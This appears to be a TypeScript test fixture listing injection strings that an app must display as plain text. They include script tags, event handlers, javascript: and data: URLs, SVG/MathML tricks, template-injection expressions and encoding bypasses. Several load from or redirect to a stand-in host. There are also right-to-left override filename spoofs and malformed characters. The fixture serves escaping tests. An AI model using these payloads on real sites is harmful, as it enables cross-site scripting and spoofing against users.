/**
 * What somebody writes who wants his words to run. Each calls `canary`, names another host, or would change the page;
 * all are to be shown as they stand. At most 60 characters, so that they fit into every field.
 */
export const payloads: readonly string[] = [
  // elements
  "<script>canary(1)</script>",
  "</script><script>canary(1)</script>",
  "</textarea></title><script>canary(1)</script>",
  '"><script src=//elsewhere.example/a.js></script>',
  "<img src=x onerror=canary(1)>",
  '<IMG SRC="x" ONERROR="canary(1)">',
  "<img/src=x/onerror=canary(1)//",
  "<img src=//elsewhere.example/b.png>",
  "<iframe src=javascript:parent.canary(1)></iframe>",
  "<iframe srcdoc='<script>parent.canary(1)</script>'>",
  "<object data=javascript:canary(1)></object>",
  "<embed src=data:text/html,<script>canary(1)</script>>",
  "<base href=https://elsewhere.example/>",
  "<meta http-equiv=refresh content=0;url=//elsewhere.example>",
  "<link rel=stylesheet href=//elsewhere.example/c.css>",
  "<form action=//elsewhere.example><button>x</button></form>",
  "<details open ontoggle=canary(1)>x</details>",
  "<video><source onerror=canary(1)></video>",
  "<audio src=x onerror=canary(1)>",
  "<body onload=canary(1)>",
  "<marquee onstart=canary(1)>x</marquee>",
  "<template><img src=x onerror=canary(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=canary(1)>",
  "<!--><img src=x onerror=canary(1)>-->",
  "<![CDATA[><img src=x onerror=canary(1)>]]>",
  // SVG and MathML
  "<svg onload=canary(1)>",
  "<svg><script>canary(1)</script></svg>",
  "<svg><animate onbegin=canary(1) attributeName=x dur=1s>",
  "<svg><a href=javascript:canary(1)><text y=9>x</text></a>",
  "<svg><style><img src=x onerror=canary(1)></style></svg>",
  "<math href=javascript:canary(1)>x</math>",
  "<math><mtext><style><img src=x onerror=canary(1)>",
  // attributes and handlers
  '" onmouseover="canary(1)" x="',
  "' autofocus onfocus='canary(1)",
  "` onclick=canary(1) `",
  "x onpointerenter=canary(1)",
  "<input autofocus onfocus=canary(1)>",
  "<p style=animation-name:x onanimationstart=canary(1)>",
  // style
  "<style>*{display:none}</style>",
  "<style>@import '//elsewhere.example/d.css';</style>",
  "<b style='position:fixed;inset:0;background:#f00'>x</b>",
  "</style><script>canary(1)</script>",
  "x;background:url(//elsewhere.example/e.png)",
  // addresses
  "<a href=javascript:canary(1)>x</a>",
  "javascript:canary(1)",
  "JaVaScRiPt:canary(1)",
  "java\tscript:canary(1)",
  "data:text/html,<script>canary(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
  "vbscript:canary(1)",
  'https://elsewhere.example/"onmouseover="canary(1)',
  "https://elsewhere.example/<img src=x onerror=canary(1)>",
  "//elsewhere.example/f",
  // links of markdown
  "[x](javascript:canary(1))",
  '![x](x"onerror="canary(1))',
  "<javascript:canary(1)>",
  // templates
  "{{constructor.constructor('canary(1)')()}}",
  "$" + "{canary(1)}",
  "<%= canary(1) %>",
  "$t(product) {{name}} {name}",
  "#{7*7} *{7*7} @(7*7)",
  // already escaped, twice or otherwise
  "&lt;img src=x onerror=canary(1)&gt;",
  "&#60;img src=x onerror=canary(1)&#62;",
  "\\u003cimg src=x onerror=canary(1)\\u003e",
  "%3Cimg%20src=x%20onerror=canary(1)%3E",
  "＜img src=x onerror=canary(1)＞",
  "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
  // names of the language itself
  "__proto__",
  "constructor",
  "toString",
  // direction and what cannot be seen
  "שלום\u202egnp.exe",
  "\u2067\u202eמחיר\u2069 99",
  "<\u200bscript>canary(1)</script>",
  "\ufeff<svg onload=canary(1)>",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  // a word without an end
  "W".repeat(60),
];

/** A word that no line holds; for messages, which may be this long. */
export const endless = "Wm".repeat(1_500);

/** What is no text at all: half a character, and what no database keeps. It is refused, not repaired. */
export const broken: readonly string[] = ["\ud83d", "\ude00x", "a\u0000b", "\u001b[31m"];
